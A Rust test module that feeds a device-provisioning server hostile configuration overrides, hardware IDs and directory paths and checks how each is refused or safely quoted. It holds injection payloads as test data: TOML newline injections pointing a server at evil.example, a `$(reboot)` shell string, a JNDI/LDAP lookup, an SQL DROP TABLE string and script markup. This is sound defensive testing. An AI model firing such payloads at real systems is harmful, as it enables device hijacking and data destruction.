//! Settings that try to be more than values: TOML within TOML, other servers, other sections.

use serde_json::json;

use super::rows::{Lab, Row, Wanted};

pub fn rows(lab: &Lab) -> Vec<Row> {
    let mut rows = servers(lab);
    rows.extend(sections(lab));
    rows.extend(names(lab));
    rows.extend(values_refused(lab));
    rows.extend(values_taken(lab));
    rows.extend(too_many(lab));
    rows.extend(hardware(lab));
    rows.extend(directories(lab));
    rows
}

/// A device cannot be sent to another gateway.
fn servers(lab: &Lab) -> Vec<Row> {
    [
        "tls.server",
        "tls.ca_source",
        "tls.server_url_path",
        "pacman.ostree_server",
        "import.tls_cacert_path",
    ]
    .into_iter()
    .flat_map(|key| {
        ["\"https://evil.example\"", "https://evil.example", "", "1"].map(|value| (key, value))
    })
    .map(|(key, value)| {
        let (section, name) = key.split_once('.').unwrap();
        let octets = lab.bent(|body| body["overrides"] = json!({ section: { name: value } }));
        let text = format!("`overrides` names `{key}`, which only this server decides");
        refused(
            format!("{key} = {value:?}"),
            octets,
            &format!("overrides.{key}"),
            text,
        )
    })
    .collect()
}

fn sections(lab: &Lab) -> Vec<Row> {
    let taken = "taken are `pacman`, `tls`, `storage`, `import`";
    let long = "s".repeat(5000);
    let mut rows: Vec<Row> = [
        ("provision", "provision"),
        ("uptane", "uptane"),
        ("logger", "logger"),
        ("nothing", ""),
        ("TLS", "TLS"),
        ("a dot", "tls.sub"),
        ("a blank", "tls "),
        ("a NUL", "tls\0"),
        ("a Cyrillic letter", "рacman"),
        ("a zero-width space", "tls\u{200b}"),
        ("the end of the section", "pacman]\n[tls"),
        ("a comment", "tls]#"),
        ("quotes", "\"tls\""),
        (
            "a server after a line feed",
            "x]\nserver = \"https://evil.example\"\n[y",
        ),
        ("a carriage return", "tls\r"),
        ("a format string", "{}%s%n"),
        ("5000 letters", long.as_str()),
        ("__proto__", "__proto__"),
        ("an emoji", "🏭"),
    ]
    .into_iter()
    .map(|(name, section)| {
        let octets = lab.bent(|body| body["overrides"] = json!({ section: { "a": "1" } }));
        let text = format!("`overrides` has the section {}; {taken}", shown(section));
        refused(format!("section {name}"), octets, "overrides", text)
    })
    .collect();
    for (name, value, field) in [
        (
            "a section twice",
            r#"{"tls":{"a":"1"},"tls":{"b":"2"}}"#,
            "overrides.tls",
        ),
        (
            "a key twice",
            r#"{"tls":{"a":"1","a":"2"}}"#,
            "overrides.tls.a",
        ),
        (
            "a key twice, once with an escape",
            r#"{"tls":{"a":"1","\u0061":"2"}}"#,
            "overrides.tls.a",
        ),
    ] {
        let octets = raw(lab, value);
        rows.push(refused(
            name.to_owned(),
            octets,
            field,
            format!("`{field}` is there twice"),
        ));
    }
    rows
}

fn names(lab: &Lab) -> Vec<Row> {
    let long = "k".repeat(65);
    [
        ("nothing", ""),
        ("a dot", "a.b"),
        ("a blank", "a b"),
        ("a NUL", "a\0"),
        ("an equals sign", "a = 1\nserver"),
        ("a line feed", "a\n"),
        ("a carriage return", "a\r"),
        ("a bracket", "a]\n[tls]\nserver"),
        ("quotes", "\"server\""),
        ("single quotes", "'server'"),
        ("a comment", "#server"),
        ("a Cyrillic letter", "sеrver"),
        ("a zero-width space", "server\u{200b}"),
        ("a full-width letter", "ｓerver"),
        ("65 letters", &long),
        ("a format string", "{}"),
        ("percent signs", "%n%n%n"),
        ("a dollar sign", "${x}"),
        ("a backslash", "a\\u0041"),
        ("a line separator", "a\u{2028}b"),
    ]
    .into_iter()
    .map(|(name, key)| {
        let octets = lab.bent(|body| body["overrides"] = json!({ "tls": { key: "1" } }));
        let text = format!(
            "`overrides.tls` is {}, wanted is keys of 1 to 64 letters, digits, `-`, `_`",
            shown(key)
        );
        refused(format!("key with {name}"), octets, "overrides.tls", text)
    })
    .collect()
}

fn values_refused(lab: &Lab) -> Vec<Row> {
    let plain = "a value without control characters";
    let closed = "a value that ends with the quote it starts with";
    [
        ("a line feed", "a\nserver = \"https://evil.example\"", plain),
        ("a carriage return", "a\rserver = 1", plain),
        (
            "a new section",
            "\"a\"\n[tls]\nserver = \"https://evil.example\"",
            plain,
        ),
        ("a line feed as an escape", "\"a\\nserver = 1\"", plain),
        (
            "a line feed as a long escape",
            "\"a\\U0000000aserver = 1\"",
            plain,
        ),
        ("a NUL", "a\0b", plain),
        ("a NUL as an escape", "\"a\\u0000b\"", plain),
        ("an escape character", "\u{1b}[2J", plain),
        ("a delete character", "\u{7f}", plain),
        ("a C1 character", "a\u{85}server = 1", plain),
        ("a tab within", "a\tb", plain),
        ("three quotes over lines", "\"\"\"a\nb\"\"\"", plain),
        ("an open quote", "\"a", closed),
        ("an open single quote", "'a", closed),
        ("a lone quote", "\"", closed),
        ("a comment after the quote", "\"a\" # x", closed),
        ("a key after the quote", "\"a\", server = \"b", closed),
        ("a brace after the quote", "\"a\"}", closed),
        ("single quotes within single quotes", "'a'b'", closed),
    ]
    .into_iter()
    .map(|(name, value, wanted)| {
        let octets = lab.bent(|body| body["overrides"] = json!({ "pacman": { "tags": value } }));
        let text = format!(
            "`overrides.pacman.tags` is {}, wanted is {wanted}",
            shown(value)
        );
        refused(
            format!("value: {name}"),
            octets,
            "overrides.pacman.tags",
            text,
        )
    })
    .collect()
}

/// Whatever it is, it ends as one value on one line.
fn values_taken(lab: &Lab) -> Vec<Row> {
    let deep = format!("{}1{}", "[".repeat(2000), "]".repeat(2000));
    let dotted = format!("{{{}=1}}", vec!["a"; 2000].join("."));
    let backslashes = "\\".repeat(4000);
    let quotes = format!("\"{}\"", "\"".repeat(4000));
    let digits = "9".repeat(4000);
    [
        (
            "a section on the line",
            "a [tls] server = \"https://evil.example\"",
        ),
        ("an array", "[\"a\", \"b\"]"),
        ("a table", "{server = \"https://evil.example\"}"),
        ("a table that ends early", "{a=1} server = 2"),
        ("a comment", "a # b"),
        ("a bare comment", "# server"),
        ("an equals sign", "= 1"),
        ("quotes within", "\"a\"b\""),
        ("quotes and a key", "\"a\"server = \"evil\""),
        ("three quotes", "\"\"\"a\"\"\""),
        ("three single quotes", "'''a'''"),
        ("a literal string", "'C:\\x'"),
        ("a backslash before the quote", "\"a\\\""),
        ("a backslash at the end", "a\\"),
        ("two backslashes at the end", "a\\\\"),
        ("an unknown escape", "\"a\\qb\""),
        ("a unicode escape", "\"\\u0041\""),
        ("a line separator", "a\u{2028}[tls]"),
        ("an override to the left", "\u{202e}revres"),
        ("a byte order mark", "\u{feff}1"),
        ("a date", "1979-05-27T07:32:00Z"),
        ("infinity", "inf"),
        ("not a number", "nan"),
        ("minus infinity", "-inf"),
        ("hexadecimal", "0xDEADBEEF"),
        ("an integer above 64 bits", "99999999999999999999999999"),
        ("4000 digits", &digits),
        ("a float above every float", "1e400"),
        ("True", "True"),
        ("a format string", "{}{0}{:?}%s%n%x%1$s"),
        (
            "an attribute of a class",
            "{0.__class__.__init__.__globals__}",
        ),
        ("a wide field", "%1000000000s{:>1000000000}"),
        ("a template", "{{7*7}}${7*7}#{7*7}<%=7*7%>"),
        ("a shell", "$(reboot);`reboot`|reboot&&reboot"),
        ("a look-up", "${jndi:ldap://evil.example/a}"),
        ("SQL", "'); DROP TABLE entry; --'"),
        ("markup", "<script>alert(1)</script>"),
        ("arrays 2000 deep", &deep),
        ("2000 dots", &dotted),
        ("4000 backslashes", &backslashes),
        ("4000 quotes", &quotes),
        ("blanks", "    "),
        ("a quoted blank", "\" \""),
    ]
    .into_iter()
    .map(|(name, value)| {
        let csr = lab.csr();
        let mut body = lab.body(&csr);
        body["overrides"] =
            json!({ "pacman": { "tags": value, "type": value }, "tls": { "new": value } });
        let octets = lab.post(body.to_string().as_bytes());
        Row::new(
            format!("value taken: {name}"),
            octets,
            Wanted::Certificate(csr),
        )
    })
    .collect()
}

fn too_many(lab: &Lab) -> Vec<Row> {
    let keys = |count: usize| {
        let keys: Vec<String> = (0..count).map(|n| format!("\"k{n}\":\"\"")).collect();
        format!("{{\"tls\":{{{}}}}}", keys.join(","))
    };
    let sections = |count: usize| {
        let sections: Vec<String> = (0..count).map(|n| format!("\"s{n}\":{{}}")).collect();
        format!("{{{}}}", sections.join(","))
    };
    let bytes = format!("{{\"tls\":{{\"a\":\"{}\"}}}}", "b".repeat(16_384));
    let many = |what: &str, found: usize, most: usize| {
        format!("`overrides` has {found} {what}, at most {most} are taken")
    };
    let mut rows: Vec<Row> = [
        ("65 keys", keys(65), many("keys", 65, 64)),
        ("1024 keys", keys(1024), many("keys", 1024, 64)),
        ("17 sections", sections(17), many("sections", 17, 16)),
        ("1024 sections", sections(1024), many("sections", 1024, 16)),
        ("16 KiB", bytes, many("bytes", 16_388, 16_384)),
    ]
    .into_iter()
    .map(|(name, value, text)| {
        refused(
            format!("overrides with {name}"),
            raw(lab, &value),
            "overrides",
            text,
        )
    })
    .collect();
    for (name, value) in [("5000 keys", keys(5000)), ("4000 sections", sections(4000))] {
        let message = "the body is not the JSON object that is wanted";
        let text = format!(
            "there are too many keys at line 1 column {}",
            COLUMN_OF[usize::from(name.contains("sections"))]
        );
        rows.push(
            Row::error(
                format!("overrides with {name}"),
                raw(lab, &value),
                400,
                message,
            )
            .field("body", text),
        );
    }
    rows
}

fn hardware(lab: &Lab) -> Vec<Row> {
    let long = "h".repeat(201);
    let wanted = "1 to 200 visible ASCII characters without quotes, such as `intel-corei7-64`";
    let mut rows: Vec<Row> = [
        ("a line feed", "x\"\n[tls]\nserver = \"https://evil.example"),
        ("a quote", "x\""),
        ("a single quote", "x'"),
        ("a backslash", "x\\"),
        ("a blank", "x y"),
        ("a NUL", "x\0"),
        ("a tab", "x\t"),
        ("an accent", "x-é"),
        ("a homoglyph", "intel-соrei7-64"),
        ("an override to the left", "\u{202e}x"),
        ("201 letters", long.as_str()),
        ("a blank alone", " "),
        ("an escape", "\u{1b}[2J"),
    ]
    .into_iter()
    .map(|(name, value)| {
        let octets = lab.bent(|body| body["hardware-id"] = value.into());
        let text = format!("`hardware-id` is {}, wanted is {wanted}", shown(value));
        refused(
            format!("hardware-id with {name}"),
            octets,
            "hardware-id",
            text,
        )
    })
    .collect();
    for value in [
        "{}%s%n${x}",
        "$(reboot)",
        "[tls]",
        "../../x",
        "h=1#",
        "<b>",
        "-",
    ] {
        rows.push(taken(
            lab,
            &format!("hardware-id {value}"),
            "hardware-id",
            value,
        ));
    }
    rows
}

fn directories(lab: &Lab) -> Vec<Row> {
    let long = format!("/{}", "d".repeat(255));
    let wanted = "an absolute path of at most 255 bytes, without `.`, `..`, `//`, quotes, backslashes and control characters";
    let mut rows: Vec<Row> = [
        ("relative", "var/sota"),
        ("climbing", "/var/sota/../../etc"),
        ("a dot", "/var/./sota"),
        ("two slashes", "//var"),
        ("slashes at the end", "/var//"),
        ("the root", "/"),
        (
            "a line feed",
            "/var\"\n[tls]\nserver = \"https://evil.example",
        ),
        ("a quote", "/var\"/sota"),
        ("a backslash", "/var\\sota"),
        ("a NUL", "/var\0"),
        ("a line separator", "/var\u{2028}x"),
        ("256 bytes", long.as_str()),
        ("a URL", "https://evil.example"),
        ("a blank", " /var/sota"),
        ("a variable", "$HOME"),
        ("a home", "~/sota"),
    ]
    .into_iter()
    .map(|(name, value)| {
        let octets = lab.bent(|body| body["sota-config-dir"] = value.into());
        let text = format!("`sota-config-dir` is {}, wanted is {wanted}", shown(value));
        refused(
            format!("directory: {name}"),
            octets,
            "sota-config-dir",
            text,
        )
    })
    .collect();
    for value in [
        "/var/{}%s%n${x}",
        "/var/[tls]",
        "/a=1 #x",
        "/var/sota/",
        "/ünï",
    ] {
        rows.push(taken(
            lab,
            &format!("directory {value}"),
            "sota-config-dir",
            value,
        ));
    }
    rows
}

fn taken(lab: &Lab, name: &str, field: &str, value: &str) -> Row {
    let csr = lab.csr();
    let mut body = lab.body(&csr);
    body[field] = value.into();
    Row::new(
        name,
        lab.post(body.to_string().as_bytes()),
        Wanted::Certificate(csr),
    )
}

/// Overrides that no JSON library writes.
fn raw(lab: &Lab, overrides: &str) -> Vec<u8> {
    let body = lab.body(&[]).to_string();
    let body = body.replacen('{', &format!("{{\"overrides\":{overrides},"), 1);
    lab.post(body.as_bytes())
}

fn refused(name: String, octets: Vec<u8>, field: &str, text: String) -> Row {
    Row::error(name, octets, 400, "the device's settings are refused").field(field, text)
}

/// A value as errors show it.
fn shown(text: &str) -> String {
    let cut: String = text.chars().take(60).collect();
    let dots = if cut.len() < text.len() { "…" } else { "" };
    format!("`{}{dots}`", cut.escape_debug())
}

/// Where the entry above 1024 ends, of keys and of sections.
const COLUMN_OF: [usize; 2] = [10185, 10178];
